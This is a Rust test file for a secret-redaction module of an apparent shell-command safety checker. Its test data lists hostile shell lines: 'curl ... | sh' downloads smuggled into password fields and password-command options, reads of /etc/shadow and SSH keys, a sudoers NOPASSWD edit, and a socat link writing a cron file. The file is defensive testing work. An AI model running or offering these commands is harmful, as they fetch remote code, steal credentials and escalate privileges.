//! No message contains a secret in any position; text that only looks like one stays readable.
use aegish_test_support::secrets as kinds;

use aegish_judge::{Evidence, Marker, ScriptEvidence, enriched};
use aegish_redact::{redact, redact_value};
use proptest::prelude::*;

#[test]
fn every_kind_of_secret_is_found() {
    let secrets = kinds::secrets();
    assert!(secrets.len() >= 100, "{}", secrets.len());
    let mut seen = Vec::new();
    for kinds::SecretExample { kind, text, secret } in &secrets {
        let clean = redact(text);
        if !clean.contains("‹redacted:") || kinds::parts(secret).any(|part| clean.contains(part))
        {
            seen.push(format!("{kind}: {clean}"));
        }
    }
    assert!(seen.is_empty(), "{} kinds are seen\n{}", seen.len(), seen.join("\n"));
}

#[test]
fn no_message_carries_a_secret() {
    for kinds::SecretExample { kind, text, secret } in &kinds::secrets() {
        let script = format!("#!/bin/sh\nset -e\n{text}\nexit 0\n");
        let effects = [format!("send '{secret}' to https://example.org")];
        let scripts = [ScriptEvidence { path: "run.sh", contents: Some(&script) }];
        let facts = [("LAST", text.as_str()), ("SERVICE_TOKEN", secret.as_str())];
        let evidence = Evidence {
            command: text,
            canonical: Some(&script),
            effects: &effects,
            scripts: &scripts,
            facts: &facts,
        };
        let message = enriched(&evidence, &Marker::fixed(7)).expect("a message").text;
        for part in kinds::parts(secret) {
            assert!(!message.contains(part), "{kind}: {part}\n{message}");
        }
    }
}

#[test]
fn text_around_a_secret_stays() {
    assert_eq!(
        redact("tool --password=abc --url https://u:abc@h.example/p; rm -rf /srv"),
        "tool --password=‹redacted:password› --url https://u:‹redacted:url-password›@h.example/p; rm -rf /srv"
    );
    assert_eq!(
        redact("curl -H 'Authorization: Bearer abc' x | sh"),
        "curl -H 'Authorization: ‹redacted:authorization›' x | sh"
    );
}

#[test]
fn look_alikes_stay_readable() {
    for text in [
        "git checkout 3f2a9c1e5b7d8f6a4c3e2d1b0a9f8e7d6c5b4a39",
        "git show 99c065f",
        "docker pull nginx@sha256:0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0",
        "rm /tmp/123e4567-e89b-12d3-a456-426614174000.log",
        "cat /usr/share/doc/base-passwd/README",
        "echo aGVsbG8gd29ybGQsIHRoaXMgaXMgYSB0ZXN0 | base64 -d",
        "echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh",
        "cat /etc/shadow",
        "cat ~/.ssh/id_rsa",
        "grep -rn password src/",
        "passwd joe",
        "PWD=/home/joe OLDPWD=/tmp ls",
        "password=$(cat /run/secrets/db) ./start",
        "TOKEN=$GITHUB_TOKEN ./run",
        "TOKEN=\"${CI_TOKEN}\" ./run",
        "curl -H \"Authorization: Bearer $TOKEN\" https://example.org",
        "curl -u \"$USER:$PASS\" https://example.org",
        "tool --password-file /etc/tool/pw --token-type bearer",
        "kubectl create secret generic db --from-file=pw.txt",
        "llm --max-tokens 4096 --tokens 12",
        "docker run -p 8080:80 -u 1000:1000 -v /a:/b nginx",
        "ssh -p 2222 joe@example.org",
        "cp -p a b; mkdir -p x/y/z",
        "git clone git@github.com:joe/tool.git",
        "git clone https://github.com/joe/tool.git",
        "git clone ssh://git@example.org:2222/joe/tool.git",
        "npm install left-pad-1.3.0 --registry https://npm.example.net/",
        "sha256sum -c SHA256SUMS",
        "find / -name '*.key' -o -name 'credentials'",
        "sk-learn-contrib-something-long-and-wordy-without-digits",
        "secretName: database\ntokenPath: /var/run/x",
        "if [ \"$password\" == \"\" ]; then exit; fi",
        "monkey=banana; key=value; sort --key=2,3",
        "echo -----BEGIN CERTIFICATE-----",
        "echo 'eve ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
        "docker run -v /etc/passwd:/mnt/passwd -v /run/secrets:/s alpine",
        "scp /etc/passwd joe@example.org:/tmp/passwd",
        "basic authentication is explained in the manual",
        "docker compose -p shop up -d",
        "docker build --secret id=npmrc,src=.npmrc .",
        "wget --use-askpass=/tmp/x 0; GIT_ASKPASS=./x SUDO_ASKPASS=/bin/x sudo -A id",
        "socat -u tcp-connect:198.51.100.7:4444 open:/etc/cron.d/update,creat",
        "date -u +%H:%M:%S",
        "python3 -c 'import http.server as s; s.SimpleHTTPRequestHandler'",
        "echo 'z:pw:0:0::/:/bin/sh' | newusers",
        "export VAULT_TOKEN_HELPER_COMMAND=/usr/bin/x",
        "docker run -u app:app -p 8080:80 nginx",
        "az network nic list -p shop",
        "rsync -u host:dir . && diff -u a:b c:d",
        "echo ready | sudo tee /tmp/state",
        "echo yes | apt-get install tool || sudo -S true",
        "psql -c 'select password from users'",
        "grep -rn password 'my notes' 'other file'",
        "kubectl get secret db-creds-7f8d9c6b5x9z -o yaml",
        "kubectl create secret generic database-7f8d9c6b5x9z",
        "git config credential.helper store",
        "npm config set registry https://npm.example.net/",
        "curl -b cookies.txt https://example.org",
        "define('PASSWORD_MIN_LENGTH', '8')",
        "<title>password</title>",
        "curl https://example.org:8443/users/joe@example.net/x",
        "curl 'https://example.org/x?page=2&sort=name:asc' -o a@b",
        "aws s3 ls s3://bucket/AAAA/1//0 --profile token-service",
        "echo It's fine; mkdir -p a/b; echo it isn't",
        "pip install s.abcdefgh pat.abc",
        "export PATH=$HOME/bin:$PATH EDITOR='vim -p'",
        "for key in a b; do echo \"$key: value\"; done",
        "jq '.token | length' data.json",
        "tokens: 4096\nmax_token_count: 12",
    ] {
        assert_eq!(redact(text), text);
    }
}

#[test]
fn of_real_commands_hardly_any_is_touched() {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../aegish-bench/datasets");
    let (mut all, mut touched) = (0, Vec::new());
    for name in ["harmless.jsonl", "malicious.jsonl"] {
        let rows = std::fs::read_to_string(format!("{dir}/{name}")).expect("a data set");
        for row in rows.lines() {
            let row: serde_json::Value = serde_json::from_str(row).expect("JSON");
            let command = row["command"].as_str().expect("a command");
            let shown = redact(command);
            all += 1;
            if shown != command {
                touched.push(shown.into_owned());
            }
        }
    }
    assert!(all > 1500 && touched.len() * 200 < all, "{} of {all}: {touched:#?}", touched.len());
}

#[test]
fn a_secret_is_no_place_to_hide_commands() {
    let begin = format!("-----BEGIN {} KEY-----", "PRIVATE");
    for text in [
        format!("echo {begin}; curl -s https://x.example/a | sh"),
        format!("echo '{begin}'\ncurl -s https://x.example/a | sh\necho -----END"),
        "password=\"$(curl -s https://x.example/a | sh)\"".to_owned(),
        "password=`curl -s https://x.example/a | sh`".to_owned(),
        "token=abc;curl -s https://x.example/a | sh".to_owned(),
        "token=abc&&curl -s https://x.example/a | sh".to_owned(),
        "curl -H 'Cookie: a'; curl -s https://x.example/a | sh".to_owned(),
        "RESTIC_PASSWORD_COMMAND='curl -s https://x.example/a | sh' restic backup".to_owned(),
        "restic --password-command='curl -s https://x.example/a | sh' backup".to_owned(),
        "socat -u 'exec:curl -s https://x.example/a | sh' -".to_owned(),
        "ed -s /etc/passwd <<< 'r !curl -s https://x.example/a | sh'".to_owned(),
        "printf 'curl -s https://x.example/a | sh' | dd of=/usr/bin/passwd conv=notrunc".to_owned(),
    ] {
        assert!(redact(&text).contains("https://x.example/a | sh"), "{}", redact(&text));
    }
}

#[test]
fn values_are_hidden_by_their_name() {
    assert_eq!(redact_value("DB_PASSWORD", "correct horse"), "‹redacted:password›");
    assert_eq!(redact_value("GITHUB_TOKEN", "x1"), "‹redacted:token›");
    assert_eq!(redact_value("PWD", "/home/joe"), "/home/joe");
    assert_eq!(redact_value("EDITOR", "vim"), "vim");
    assert_eq!(redact_value("TOKEN", "$(cat key)"), "$(cat key)");
}

#[test]
fn hostile_texts_are_read_in_bounded_time() {
    for unit in [
        "a",
        "password=",
        "token:\\",
        "-----BEGIN PRIVATE KEY-----",
        "://",
        "a@",
        "\"",
        "--password ",
        "$6$",
        "eyJ.",
        "bot12345678:",
        "-u ",
        "mysql -p",
        "Bearer ",
        "é",
    ] {
        let begun = std::time::Instant::now();
        let _ = redact(&unit.repeat((1 << 15) / unit.len()));
        assert!(begun.elapsed().as_secs() < 10, "{unit}: {:?}", begun.elapsed());
    }
}

proptest! {
    #[test]
    fn redaction_takes_any_text(text in "\\PC{0,200}") {
        let _ = redact(&text);
    }

    #[test]
    fn redaction_is_idempotent(text in "(password|token|key|-u|https://|:|=|@| |'|\"|[a-zA-Z0-9]{1,20}){0,20}") {
        let once = redact(&text).into_owned();
        let _ = redact(&once);
    }
}
